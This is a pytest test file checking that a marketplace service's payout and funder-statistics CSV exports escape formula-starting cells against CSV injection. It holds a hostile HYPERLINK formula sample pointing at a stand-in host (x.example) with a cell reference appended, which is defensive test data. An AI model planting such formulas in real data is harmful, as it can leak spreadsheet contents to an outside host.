"""Every CSV the service writes opens in a spreadsheet as data: no cell of any export can start a
formula (OWASP's CSV-injection rules), whatever text officers, providers or funders typed."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient

from marketplace.domain.models import Payout, PayoutAccount, Provider
from marketplace.domain.spreadsheet import FORMULA_STARTS, csv_text, safe_cell
from marketplace.extensions import db
from marketplace.queries import stats
from marketplace.services import payouts
from tests.builders import Builders

ROOT = Path(__file__).resolve().parents[2]
TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')

# Each way a cell can start a formula: the four signs, tab and carriage return, and each of them
# after leading whitespace (which some spreadsheet programs skip).
PREFIXES = ["=", "+", "-", "@", "\t", "\r", " =", "  +", "\n-", " \t@", "\u3000=", "\uff1d"]
PAYLOAD = 'HYPERLINK("https://x.example/?"&A1,"Pay")'


def _hostile(prefix: str) -> str:
    return prefix + PAYLOAD


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_cell_can_start_a_formula(text: str) -> None:
    for cell in _cells(text):
        assert cell[:1] not in FORMULA_STARTS, cell
        assert cell.lstrip()[:1] not in FORMULA_STARTS, cell


# --------------------------------------------------------------------------- the one function


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_a_cell_that_could_start_a_formula_is_kept_as_text(prefix: str) -> None:
    hostile = _hostile(prefix)

    assert safe_cell(hostile) == "'" + hostile
    assert _cells(csv_text([[hostile]])) == ["'" + hostile]  # quoting keeps tabs and line ends


def test_numbers_and_ordinary_text_are_written_as_they_are() -> None:
    assert [safe_cell(v) for v in (-5, 12.5, 0, None, "Mama Njeri", "KES 1,000", "<5")] == [
        "-5",
        "12.5",
        "0",
        "",
        "Mama Njeri",
        "KES 1,000",
        "<5",
    ]


def test_every_csv_the_code_writes_goes_through_the_one_escaping_function() -> None:
    writers = []
    for path in [*(ROOT / "marketplace").rglob("*.py"), *(ROOT / "sms").rglob("*.py")]:
        if path == ROOT / "marketplace" / "domain" / "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                writers.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert writers == []


# --------------------------------------------------------------------------- payouts


def _sign_in(client: FlaskClient, build: Builders, role: str) -> None:
    user = build.staff_user(role, funder="Skills Fund" if role == "funder" else None)
    token = TOKEN.search(client.get("/signin").get_data(as_text=True))
    assert token
    answer = client.post(
        "/signin",
        data={"email": user.email, "password": "correct horse battery", "csrf_token": token[1]},
    )
    assert answer.status_code == 302


def _hostile_payout_run(build: Builders, hostile: str) -> int:
    provider = build.provider(name="Fundi Juma")
    build.confirmed_session(
        build.booking(provider=provider), now=datetime.now(UTC) - timedelta(hours=1)
    )
    run = payouts.run_payout("KES", datetime.now(UTC), "test")
    assert run is not None
    run_id = run.id
    account = build.payout_account(provider, kind="bank", bank_name="KCB", bank_account="1100")
    # Whatever the forms let through today or let through once: names, accounts, references.
    db.session.execute(sa.update(Provider).where(Provider.id == provider.id).values(name=hostile))
    db.session.execute(
        sa.update(PayoutAccount).where(PayoutAccount.id == account.id).values(bank_name=hostile)
    )
    db.session.execute(sa.update(Payout).where(Payout.run_id == run_id).values(reference=hostile))
    db.session.commit()
    return run_id


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_payout_csv_escapes_every_cell_wherever_it_is_downloaded(
    build: Builders, client: FlaskClient, prefix: str
) -> None:
    hostile = _hostile(prefix)
    run_id = _hostile_payout_run(build, hostile)
    token = build.api_key()

    from_service = payouts.run_csv(run_id)
    from_api = client.get(
        f"/api/v1/payouts/{run_id}/csv", headers={"Authorization": f"Bearer {token}"}
    )
    _sign_in(client, build, "admin")
    from_admin = client.get(f"/admin/payouts/{run_id}.csv")

    assert from_api.status_code == from_admin.status_code == 200
    for text in (from_service, from_api.get_data(as_text=True), from_admin.get_data(as_text=True)):
        _assert_no_cell_can_start_a_formula(text)
        row = next(csv.DictReader(io.StringIO(text, newline="")))
        assert row["provider_name"] == row["reference"] == "'" + hostile
        assert row["payout_account"] == "'" + hostile + " 1100"


# --------------------------------------------------------------------------- funder statistics


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_every_funder_statistics_csv_escapes_every_cell(
    build: Builders, client: FlaskClient, prefix: str
) -> None:
    hostile = _hostile(prefix)
    programme = build.programme(sessions_per_voucher=1)
    provider = build.provider(name="Fundi Juma")
    build.confirmed_session(build.booking(build.voucher(programme), provider))  # completes it
    db.session.execute(sa.update(Provider).where(Provider.id == provider.id).values(name=hostile))
    db.session.commit()
    report = stats.programme_stats(programme)
    keys = list(stats.table_keys(report))
    _sign_in(client, build, "funder")
    base = f"/funder/programmes/{programme.id}"

    downloads = {"stats.csv": client.get(f"{base}/stats.csv")}
    downloads.update({f"{key}.csv": client.get(f"{base}/{key}.csv") for key in keys})

    assert {name: answer.status_code for name, answer in downloads.items()} == {
        name: 200 for name in downloads
    }
    texts = [answer.get_data(as_text=True) for answer in downloads.values()]
    for text in [*texts, stats.report_csv(report)]:
        _assert_no_cell_can_start_a_formula(text)
    top = downloads["top_providers.csv"].get_data(as_text=True)
    assert "'" + hostile in _cells(top)
    assert "'" + hostile in _cells(downloads["stats.csv"].get_data(as_text=True))
